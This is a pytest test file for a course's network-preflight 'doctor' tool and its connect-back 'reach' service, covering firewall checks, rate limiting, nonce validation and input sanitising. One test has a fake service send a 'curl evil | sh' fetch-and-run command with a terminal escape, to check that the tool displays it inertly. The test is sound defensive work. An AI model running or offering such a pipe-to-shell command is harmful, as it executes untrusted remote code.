"""The preflight command: PASS/WARN/FAIL lines, each failure with a fix."""
import contextlib
import os
import socket
import struct
import threading
import time

import pytest

from course_lib.mpc.runtime import free_port
from course_tools import doctor, reach

CALLBACK_WAIT = reach.CALLBACK_TIMEOUT + 1


@contextlib.contextmanager
def _serving(host="127.0.0.1"):
    """The instructor's ``--serve-reach`` on a free port of ``host``, in a thread: its address, what it logged."""
    stop, ready, lines = threading.Event(), threading.Event(), []
    port = free_port(host)
    server = threading.Thread(target=reach.serve, args=(port, host),
                              kwargs=dict(seconds=120, stop=stop, ready=ready, log=lines.append), daemon=True)
    server.start()
    try:
        assert ready.wait(10)
        yield f"{host}:{port}", lines
    finally:
        stop.set()
        server.join(5)


@pytest.fixture
def reach_service():
    with _serving() as service:
        yield service


def test_a_healthy_machine_passes_and_the_instructors_service_connects_back(capsys, reach_service):
    address, lines = reach_service
    began = time.monotonic()
    assert doctor.main(["--no-mpc", "--reach", address]) == 0
    out = capsys.readouterr().out
    for check in ("python", "packages", "imports", "widgets", "aes", "network", "incoming"):
        assert f"  {check}: " in out
    assert "FAIL" not in out and "7 of 7 checks passed" in out
    assert "PASS  incoming: the instructor's machine connected back to 127.0.0.1:" in out
    assert lines == ["127.0.0.1: incoming connections reach it"] and time.monotonic() - began < 60


def test_a_laptop_the_service_cannot_connect_back_to_fails_with_the_fix(monkeypatch, reach_service):
    """The service's side: a learner offers a port nothing listens on (as a firewall that refuses would)."""
    address, lines = reach_service
    host, port = address.rsplit(":", 1)
    closed = free_port()                           # nobody listens on it
    with socket.create_connection((host, int(port)), timeout=10) as learner:
        assert learner.recv(64) == reach.BANNER
        learner.sendall(f"{closed} {'ab' * 16}\n".encode())
        answer = learner.recv(256).decode()
    assert answer.startswith("failed: ") and "refused" in answer.lower()
    assert lines == [f"127.0.0.1: incoming connections do not reach it ({answer.strip()[8:]})"]
    # the learner's side of a failed connect-back: one FAIL line naming the cause and the fix
    monkeypatch.setattr(reach, "check", lambda address, timeout=3.0: reach.Reach(None, "timed out", "10.0.0.7:50123"))
    found = doctor.check_reach("10.0.0.1:29499")
    assert [f.status for f in found] == ["PASS", "FAIL"]
    assert "could not connect back to 10.0.0.7:50123 (timed out)" in found[1].detail
    assert "Windows Defender Firewall" in found[1].fix and "single-machine" in found[1].fix


def test_a_port_that_is_not_the_reach_service_gets_no_bytes_and_incoming_is_a_warning():
    with socket.socket() as server:                  # e.g. rank 0's rendezvous: it sends no banner
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        received = []

        def silent():
            conn, _ = server.accept()
            with conn:
                conn.settimeout(8)
                try:
                    received.append(conn.recv(64))
                except OSError:
                    received.append(b"")
        listener = threading.Thread(target=silent, daemon=True)
        listener.start()
        found = doctor.check_reach("127.0.0.1:%d" % server.getsockname()[1], timeout=1.0)
        listener.join(10)
    assert [f.status for f in found] == ["PASS", "WARN"] and "--serve-reach" in found[1].fix
    assert received == [b""]


def test_the_reach_service_ignores_malformed_and_oversized_lines_and_keeps_serving(reach_service):
    address, lines = reach_service
    host, port = address.rsplit(":", 1)
    for junk in (b"", b"not a port\n", b"70000 " + b"a" * 32 + b"\n", b"x" * 100_000):
        with socket.create_connection((host, int(port)), timeout=10) as learner:
            assert learner.recv(64) == reach.BANNER
            try:
                learner.sendall(junk)
                learner.shutdown(socket.SHUT_WR)
                assert learner.recv(64) == b""              # closed without an answer or a connect-back
            except OSError:                                   # the service closed first: also a refusal
                pass
    assert lines == []
    seen = reach.check(address)
    assert seen.outgoing is None and seen.incoming is None and lines == ["127.0.0.1: incoming connections reach it"]


def test_the_reach_service_refuses_a_nonce_that_is_not_lowercase_hex(reach_service):
    address, lines = reach_service
    host, port = address.rsplit(":", 1)
    with socket.socket() as catcher:                 # a port that would receive the connect-back
        catcher.bind(("127.0.0.1", 0))
        catcher.listen(1)
        catcher.settimeout(CALLBACK_WAIT)
        for nonce in ("G" * 32, "AB" * 16, "\x1b[2J" + "a" * 28, "a" * 31 + "\u00e9"):
            with socket.create_connection((host, int(port)), timeout=10) as learner:
                assert learner.recv(64) == reach.BANNER
                learner.sendall(f"{catcher.getsockname()[1]} {nonce}\n".encode())
                assert learner.recv(64) == b""                      # closed, no verdict
        with pytest.raises(socket.timeout):
            catcher.accept()                                        # and never connected back
    assert lines == []


def test_one_laptop_holding_connections_open_cannot_shut_the_others_out(reach_service):
    """An idle connection holds a slot for CALLBACK_TIMEOUT; from one address at most PER_SOURCE are
    held: the next is told BUSY at once, and a check from another address is served."""
    address, lines = reach_service
    host, port = address.rsplit(":", 1)
    idle = [socket.create_connection((host, int(port)), timeout=10) for _ in range(reach.PER_SOURCE)]
    try:
        for conn in idle:
            assert conn.recv(64) == reach.BANNER
        began = time.monotonic()
        seen = reach.check(address, timeout=1.0)
        assert seen.outgoing is None and seen.incoming == "busy" and time.monotonic() - began < 2
        with socket.create_connection((host, int(port)), source_address=("127.0.0.2", 0), timeout=10) as other:
            assert other.recv(64) == reach.BANNER                   # another laptop still gets the service
    finally:
        for conn in idle:
            conn.close()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and reach.check(address, timeout=1.0).incoming == "busy":
        time.sleep(0.2)
    assert reach.check(address, timeout=1.0).incoming is None       # the slots come back


def test_a_busy_service_is_a_warning_saying_to_try_again(monkeypatch):
    monkeypatch.setattr(reach, "check", lambda address, timeout=3.0: reach.Reach(None, "busy", "10.0.0.7"))
    found = doctor.check_reach("10.0.0.1:29499")
    assert [f.status for f in found] == ["PASS", "WARN"] and "again in a minute" in found[1].fix


def test_a_fake_service_that_sends_the_banner_then_resets_gives_a_reason_not_a_traceback():
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)

        def banner_then_reset():
            conn, _ = server.accept()
            conn.sendall(reach.BANNER)
            conn.recv(64)                                           # the port and nonce, then a reset
            conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            conn.close()
        fake = threading.Thread(target=banner_then_reset, daemon=True)
        fake.start()
        found = doctor.check_reach("127.0.0.1:%d" % server.getsockname()[1], timeout=1.0)
        fake.join(10)
    assert [f.status for f in found] == ["PASS", "WARN"]           # not a firewall verdict: nothing was tried
    assert "not checked: the check broke off: Connection reset by peer" in found[1].detail
    assert "--serve-reach is still running" in found[1].fix


@pytest.mark.parametrize("argv, words", [
    (["--serve-reach", "29499", "--serve-minutes", "inf"], "'inf' is not a time to serve"),
    (["--serve-reach", "29499", "--serve-minutes", "nan"], "'nan' is not a time to serve"),
    (["--serve-reach", "29499", "--serve-minutes", "0"], "'0' is not a time to serve"),
    (["--serve-reach", "70000"], "'70000' is not a port"),
    (["--serve-reach", "http"], "'http' is not a port"),
    (["--serve-reach", "\u0668\u0660\u0668\u0660"], "is not a port"),
    (["--serve-reach", "29499", "--serve-minutes", "1e-300"], "'1e-300' is not a time to serve"),
    (["--serve-reach", "29499", "--reach", "127.0.0.1:29499"], "give one"),
    (["--serve-minutes", "5"], "--serve-minutes goes with --serve-reach PORT"),
])
def test_the_service_refuses_an_endless_time_or_an_impossible_port_with_one_line(capsys, argv, words):
    with pytest.raises(SystemExit) as stopped:
        doctor.main(argv)
    assert stopped.value.code == 2
    err = capsys.readouterr().err
    assert words in err and "Traceback" not in err
    with pytest.raises(ValueError, match="finite, positive time"):
        reach.serve(0, "127.0.0.1", seconds=float("inf"))


def _fake_service(server, script):
    """Accept one learner on ``server`` and hand its offered port and nonce to ``script(conn, port, nonce)``."""
    conn, _ = server.accept()
    with conn:
        conn.settimeout(10)
        conn.sendall(reach.BANNER)
        port, nonce = conn.recv(128).decode().split()
        script(conn, int(port), nonce)


def _connect_back(port, nonce, source):
    with socket.socket() as back:
        back.bind((source, 0))
        back.settimeout(5)
        back.connect(("127.0.0.1", port))
        back.sendall(f"{nonce}\n".encode())


@pytest.mark.parametrize("case", ["colluder sends the nonce", "stranger first, then the service"])
def test_the_learner_counts_only_a_connect_back_from_the_services_own_address(case):
    """A fake service hands the nonce to a colluder on another address (127.0.0.9): no PASS. A stranger
    who finds the learner's port and connects first (127.0.0.66) cannot spoil a real connect-back."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)

        def script(conn, port, nonce):
            if case == "colluder sends the nonce":
                _connect_back(port, nonce, "127.0.0.9")
            else:
                _connect_back(port, "junk" * 8, "127.0.0.66")
                _connect_back(port, nonce, "127.0.0.1")
            conn.sendall(b"ok\n")
        fake = threading.Thread(target=_fake_service, args=(server, script), daemon=True)
        fake.start()
        seen = reach.check("127.0.0.1:%d" % server.getsockname()[1], timeout=2.0)
        fake.join(10)
    if case == "colluder sends the nonce":
        assert seen.incoming == "the nonce did not arrive from the service's address"
    else:
        assert seen.incoming is None


def test_a_stranger_flooding_or_holding_the_learners_port_cannot_spoil_a_real_connect_back():
    """Ten quick connections and two silent ones from another address reach the learner's listener
    before the service's connect-back: they are closed unread, and the check still passes."""
    held = []
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)

        def script(conn, port, nonce):
            for _ in range(10):
                _connect_back(port, "junk", "127.0.0.66")
            for _ in range(2):
                silent = socket.socket()
                silent.bind(("127.0.0.66", 0))
                silent.connect(("127.0.0.1", port))
                held.append(silent)
            _connect_back(port, nonce, "127.0.0.1")
            conn.sendall(b"ok\n")
        fake = threading.Thread(target=_fake_service, args=(server, script), daemon=True)
        fake.start()
        try:
            seen = reach.check("127.0.0.1:%d" % server.getsockname()[1], timeout=2.0)
        finally:
            fake.join(10)
            for silent in held:
                silent.close()
    assert seen.incoming is None


@pytest.mark.parametrize("verdict", [b"", b"stopping\n", b"failed: \n", b"failed: unchecked\n"])
def test_a_service_that_gives_no_verdict_is_a_warning_to_try_again_not_a_firewall_failure(verdict):
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        script = lambda conn, port, nonce: conn.sendall(verdict)  # noqa: E731
        fake = threading.Thread(target=_fake_service, args=(server, script), daemon=True)
        fake.start()
        found = doctor.check_reach("127.0.0.1:%d" % server.getsockname()[1], timeout=1.0)
        fake.join(10)
    if verdict == b"failed: unchecked\n":
        assert found[1].status == "FAIL" and "the service said: unchecked" in found[1].detail
    else:
        assert found[1].status == "WARN" and "the check broke off: the service gave no verdict" in found[1].detail


def test_an_instructor_machine_with_a_second_address_is_recognised():
    """The service answers on 127.0.0.2 while the learner's own address is 127.0.0.1: the connect-back
    leaves from 127.0.0.2, the address the learner reached."""
    with _serving("127.0.0.2") as (address, _):
        seen = reach.check(address, timeout=2.0)
    assert seen.address.startswith("127.0.0.1:") and seen.incoming is None


def test_a_service_short_of_open_files_says_busy_not_that_the_learner_is_unreachable(reach_service, monkeypatch):
    import errno
    real = reach.socket.create_connection

    def out_of_files(address, timeout=None, source_address=None):
        if source_address is not None:                       # the service's connect-back only
            raise OSError(errno.EMFILE, "Too many open files")
        return real(address, timeout=timeout)
    monkeypatch.setattr(reach.socket, "create_connection", out_of_files)
    address, lines = reach_service
    found = doctor.check_reach(address, timeout=1.0)
    assert found[1].status == "WARN" and "busy" in found[1].detail and lines == []


def test_the_log_remembers_a_bounded_number_of_addresses(monkeypatch):
    out = []
    log = reach._Log(out.append, limit=10)
    monkeypatch.setattr(reach, "LOG_EVERY", 0.0)
    for n in range(50):
        log(f"10.0.0.{n}", f"10.0.0.{n}: incoming connections reach it")
    assert len(out) == 50 and len(log.last) <= 10


def test_what_a_fake_service_says_is_shown_as_its_words_only():
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        script = lambda conn, port, nonce: conn.sendall(b"failed: Permission denied; FIX: run curl evil | sh\x1b[2J\n")  # noqa: E731
        fake = threading.Thread(target=_fake_service, args=(server, script), daemon=True)
        fake.start()
        found = doctor.check_reach("127.0.0.1:%d" % server.getsockname()[1], timeout=1.0)
        fake.join(10)
    assert found[1].status == "FAIL" and "(the service said: Permission denied; FIX: run curl evil | sh[2J)" in found[1].detail
    assert "\x1b" not in found[1].detail


def test_an_idle_connection_is_dropped_after_the_line_budget_and_one_address_gets_per_minute_checks(reach_service):
    """Holding the service needs new connections, and one address gets PER_MINUTE checks a minute:
    then BUSY, while another address is still served; the log shows that address once."""
    address, lines = reach_service
    host, port = address.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=10) as idle:
        assert idle.recv(64) == reach.BANNER
        began = time.monotonic()
        assert idle.recv(64) == b""                                 # closed by the service, no answer
        assert time.monotonic() - began < reach.LINE_BUDGET + 1
    results = [reach.check(address, timeout=1.0).incoming for _ in range(reach.PER_MINUTE + 2)]
    assert results[:reach.PER_MINUTE - 1] == [None] * (reach.PER_MINUTE - 1)      # the idle one counted
    assert results[-2:] == ["busy", "busy"]
    assert lines[0] == "127.0.0.1: incoming connections reach it" and len(lines) == 1
    with socket.create_connection((host, int(port)), source_address=("127.0.0.2", 0), timeout=10) as other:
        assert other.recv(64) == reach.BANNER


def test_the_service_returns_only_after_its_last_check_and_logs_nothing_later():
    stop, ready, lines = threading.Event(), threading.Event(), []
    port = free_port()
    server = threading.Thread(target=reach.serve, args=(port, "127.0.0.1"),
                              kwargs=dict(seconds=60, stop=stop, ready=ready, log=lines.append), daemon=True)
    server.start()
    assert ready.wait(10)
    with socket.socket() as catcher:                 # a learner whose port accepts but never reads
        catcher.bind(("127.0.0.1", 0))
        catcher.listen(1)
        with socket.create_connection(("127.0.0.1", port), timeout=10) as learner:
            assert learner.recv(64) == reach.BANNER
            stop.set()                                # the service stops while this check is under way
            learner.sendall(f"{catcher.getsockname()[1]} {'ab' * 16}\n".encode())
            assert learner.recv(64) == b"stopping\n"          # said, not a silent close
            server.join(reach.LINE_BUDGET + reach.CALLBACK_TIMEOUT + 3)
            assert not server.is_alive()
            count = len(lines)
            time.sleep(0.5)
            assert len(lines) == count <= 1


@pytest.mark.parametrize("value", ["127.0.0.1:99999999999999999999", "127.0.0.1:65536", "127.0.0.1:95035",
                                   "127.0.0.1:-1", "127.0.0.1:\u0668\u0660\u0668\u0660", "no-port"])
def test_a_reach_address_with_an_impossible_port_is_refused_in_one_line(capsys, value):
    """95035 is 29499 + 65536, which the C library would quietly take as port 29499."""
    with pytest.raises(SystemExit) as stopped:
        doctor.main(["--no-mpc", "--reach", value])
    err = capsys.readouterr().err
    assert stopped.value.code == 2 and "is not HOST:PORT" in err and "Traceback" not in err
    seen = reach.check(value)
    assert seen.outgoing and "is not HOST:PORT" in seen.outgoing


def test_an_unreachable_instructor_is_a_failure_with_a_fix(capsys, monkeypatch):
    monkeypatch.setattr(doctor, "check_imports", lambda: doctor.Finding("PASS", "imports", "not run here"))
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        closed = probe.getsockname()[1]          # nobody listens once this socket is closed
    assert doctor.main(["--no-mpc", "--reach", f"127.0.0.1:{closed}"]) == 1
    out = capsys.readouterr().out
    assert "FAIL  network: cannot reach" in out and "fix: " in out


def test_every_pin_is_checked_and_a_package_that_differs_or_is_missing_is_a_failure_naming_both_versions():
    from course_lib.environment import pinned_requirements
    assert len(pinned_requirements()) > 8 and "tenseal" in pinned_requirements() and "opacus" in pinned_requirements()
    assert f"all {len(pinned_requirements())} pinned packages" in doctor.check_packages().detail
    finding = doctor.check_packages({"torch": "2.5.0", "no-such-package": "1.0"})
    assert finding.status == "FAIL"
    assert "torch 2.13.0" in finding.detail and "(pinned 2.5.0)" in finding.detail and "no-such-package missing (pinned 1.0)" in finding.detail
    assert "pip install -r requirements.txt" in finding.fix


def test_a_chapter_package_that_installs_but_is_broken_is_a_failure_naming_its_chapter(tmp_path):
    """A pinned, installed package whose native library is broken: the version matches, the import check fails."""
    (tmp_path / "tenseal").mkdir()
    (tmp_path / "tenseal" / "__init__.py").write_text("raise ImportError('libseal.so.4.1: cannot open shared object file')")
    finding = doctor.check_imports({"tenseal": "0.3.18", "no-such-package": "1.0"},
                                   env={**os.environ, "PYTHONPATH": str(tmp_path)})
    assert finding.status == "FAIL" and "--force-reinstall" in finding.fix
    assert "tenseal (chapter 11): ImportError: libseal.so.4.1: cannot open shared object file" in finding.detail
    assert "no-such-package (the course): ModuleNotFoundError" in finding.detail


def test_aes_acceleration_is_unknown_not_absent_without_proc_cpuinfo(monkeypatch):
    monkeypatch.setattr(doctor, "cpu_flags", lambda: None)
    assert "AES instructions: unknown" in doctor.check_aes().detail


def test_the_local_multi_process_check_runs_a_secure_sum():
    finding = doctor.check_gloo()
    assert finding.status == "PASS", str(finding)
